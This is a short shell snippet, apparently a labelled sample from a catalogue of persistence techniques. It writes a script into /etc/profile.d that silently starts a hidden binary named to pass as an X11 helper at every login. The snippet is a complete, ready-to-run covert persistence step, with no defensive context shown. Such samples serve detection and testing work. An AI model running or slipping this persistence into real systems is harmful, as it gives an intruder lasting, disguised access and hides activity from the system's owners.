# description: Drops a script in /etc/profile.d that runs a hidden binary at every login.
# family: persistence
printf '#!/bin/sh\n/var/tmp/.X11-unix-helper >/dev/null 2>&1 &\n' > /etc/profile.d/zz-x11.sh
chmod 644 /etc/profile.d/zz-x11.sh
